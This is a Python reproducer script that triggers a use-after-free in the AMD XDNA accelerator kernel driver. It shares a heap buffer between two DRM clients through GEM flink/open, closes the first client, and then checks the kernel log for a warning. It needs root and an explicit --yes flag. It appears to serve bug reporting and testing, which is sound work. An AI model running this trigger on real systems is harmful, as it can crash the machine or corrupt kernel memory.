"""A heap buffer opened by its global name outlives its client: a warning, then a use after free.

Root only: DRM_IOCTL_GEM_FLINK and GEM_OPEN need CAP_SYS_ADMIN on an accel node.
"""

from __future__ import annotations

import argparse
import ctypes
import fcntl
import mmap
import os
import struct
import sys
import time
from collections.abc import Callable

CHUNK = 64 << 20  # bytes of a heap chunk


def call(fd: int, number: int, layout: str, *values: int, direction: int = 3) -> tuple[int, ...]:
    """One DRM ioctl; its argument as the kernel left it. OSError with the kernel's errno."""
    data = bytearray(struct.pack("<" + layout, *values))
    fcntl.ioctl(fd, direction << 30 | len(data) << 16 | ord("d") << 8 | number, data)
    return struct.unpack("<" + layout, data)


def create_bo(fd: int, kind: int, size: int, vaddr: int = 0) -> int:
    """AMDXDNA_CREATE_BO: 1 shared memory, 2 heap, 3 in the heap, 4 command. The handle."""
    return call(fd, 0x43, "QQQII", 0, vaddr, size, kind, 0)[4]


def map_offset(fd: int, handle: int) -> int:
    """AMDXDNA_GET_BO_INFO: where mmap(2) finds a buffer."""
    return call(fd, 0x44, "QQIIQQQ", 0, 0, handle, 0, 0, 0, 0)[4]


def map_heap(fd: int, handle: int) -> Callable[[], int]:
    """Map a heap chunk where the driver wants it: aligned to its 64 MiB. The way to unmap it."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_int64]
    room = libc.mmap(None, 2 * CHUNK, 0, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, -1, 0)
    place = (int(room) + CHUNK - 1) & ~(CHUNK - 1)
    fixed = mmap.MAP_SHARED | 0x10
    got = libc.mmap(place, CHUNK, mmap.PROT_READ | mmap.PROT_WRITE, fixed, fd, map_offset(fd, handle))
    if got != place:
        raise OSError(ctypes.get_errno(), "the heap could not be mapped")
    return lambda: int(libc.munmap(ctypes.c_void_p(place), ctypes.c_size_t(CHUNK)))


class KernelLog:
    """The kernel's messages from now on; none when they may not be read."""

    def __init__(self) -> None:
        try:
            self.fd = os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK)
            os.lseek(self.fd, 0, os.SEEK_END)
        except OSError:
            self.fd = -1
            print("the kernel log cannot be read (not root): look for a WARNING with dmesg yourself")

    def warning(self) -> str:
        """The first warning since the start, or nothing."""
        while self.fd >= 0:
            try:
                text = os.read(self.fd, 8192).split(b";", 1)[-1].split(b"\n")[0].decode("utf-8", "replace")
            except BlockingIOError:
                break
            if "WARNING: " in text or "BUG: " in text:
                return text
        return ""


def show(node: str) -> str:
    """Name a heap buffer, open it as another client, close the first client."""
    log = KernelLog()
    first = os.open(node, os.O_RDWR | os.O_CLOEXEC)
    unmap = map_heap(first, create_bo(first, 2, CHUNK))
    name = call(first, 0x0A, "II", create_bo(first, 3, 1 << 20), 0)[1]
    second = os.open(node, os.O_RDWR | os.O_CLOEXEC)
    handle = call(second, 0x0B, "IIQ", name, 0, 0)[1]
    print("handle", handle, "of the second client; closing the first")
    unmap()  # a mapping would keep the first client alive
    os.close(first)
    time.sleep(0.5)
    return log.warning()


def main() -> int:
    """Say what will be done, do it, say what came of it. 0 as it should be, 1 the defect, 2 not run."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    parser.add_argument("--node", default="/dev/accel/accel0")
    parser.add_argument("--yes", action="store_true", help="do it although it may take the kernel down")
    options = parser.parse_args()
    print("lets a heap buffer outlive its client (root); the kernel may use freed memory")
    if not options.yes:
        print("not done: this can make the machine unusable; add --yes on one you can reset")
        return 2
    found = show(options.node)
    print("DEFECT: " + found if found else "as it should be", flush=True)
    return 1 if found else 0


if __name__ == "__main__":
    sys.exit(main())
